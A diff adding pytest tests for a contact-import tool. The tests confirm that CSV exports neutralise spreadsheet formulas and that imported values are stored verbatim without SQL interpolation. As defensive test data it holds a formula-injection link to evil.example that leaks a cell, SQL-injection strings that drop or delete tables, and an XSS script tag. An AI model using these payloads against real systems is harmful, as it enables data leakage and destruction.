@@ -1,0 +1,61 @@
+"""Hostile values (issue 5): formulas, SQL-looking text, HTML and emoji are stored verbatim, and
+every export neutralises spreadsheet formulas."""
+from __future__ import annotations
+
+import io
+
+import pandas as pd
+import pytest
+
+from core.exporting import export_safe, neutralise, to_export_csv
+from core.imports import import_errors
+from core.pipeline import import_file
+from tests.conftest import DATA
+from tests.helpers import contacts, count
+
+HOSTILE = DATA / "corpus" / "hostile_values.csv"
+
+
+@pytest.mark.parametrize("value, safe", [
+    ("=1+1", "'=1+1"), ("+1-555-0100", "'+1-555-0100"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("\tcmd", "'\tcmd"), ("\rcmd", "'\rcmd"), ("Ann", "Ann"), ("a=b", "a=b"), ("", ""), (None, None), (3, 3),
+])
+def test_neutralise_prefixes_cells_that_a_spreadsheet_would_run(value, safe):
+    assert neutralise(value) == safe
+
+
+def test_export_csv_is_formula_safe_in_cells_and_headers_and_keeps_the_text():
+    frame = pd.DataFrame({"=name": ["=HYPERLINK(\"http://x\")", "Zoë 🚀"], "n": [1, 2]})
+    data = to_export_csv(frame)
+    assert data.startswith("\ufeff".encode())
+    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str)
+    assert list(back.columns) == ["'=name", "n"]
+    assert back["'=name"].tolist() == ["'=HYPERLINK(\"http://x\")", "Zoë 🚀"]
+    assert frame.columns[0] == "=name"  # the caller's frame is left alone
+    assert export_safe(pd.DataFrame({"x": ["-1"]}))["x"].tolist() == ["'-1"]
+
+
+def test_hostile_values_are_stored_verbatim_and_nothing_is_interpolated_into_sql(engine):
+    result = import_file(engine, HOSTILE.read_bytes(), HOSTILE.name, "hostile")
+    assert (result.inserted, result.invalid) == (4, 0)
+    stored = contacts(engine)
+    assert stored["formula.one@example.com"]["full_name"] == '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    assert stored["formula.one@example.com"]["company"] == "+1-555-0100"
+    assert stored["formula.two@example.com"]["full_name"] == "@SUM(A1:A9)"
+    assert stored["bobby.tables@example.com"]["full_name"] == "Robert'); DROP TABLE contacts;--"
+    assert stored["bobby.tables@example.com"]["company"] == "<script>alert(1)</script>"
+    assert stored["emoji.person@example.com"]["full_name"] == "Emoji 🚀 Person"
+    assert stored["emoji.person@example.com"]["metadata"] == {"note": "'; DELETE FROM imports; --"}
+    assert count(engine, "imports") == 1 and count(engine, "contacts") == 4
+    exported = pd.read_csv(io.BytesIO(to_export_csv(pd.DataFrame(stored.values())[["full_name", "company"]])),
+                           encoding="utf-8-sig", dtype=str, keep_default_na=False)
+    assert not exported.map(lambda v: v.startswith(("=", "+", "-", "@"))).any().any()
+
+
+def test_row_errors_from_reading_are_stored_with_the_import(engine):
+    data = (DATA / "corpus" / "ragged_rows.csv").read_bytes()
+    result = import_file(engine, data, "ragged_rows.csv", "ragged")
+    assert (result.inserted, result.invalid) == (3, 2)
+    errors = import_errors(engine, result.import_id)
+    assert errors[["row", "column"]].values.tolist() == [[3, "(whole row)"], [4, "(whole row)"]]
+    assert errors["reason"].str.contains("values but the header has 4 columns").all()
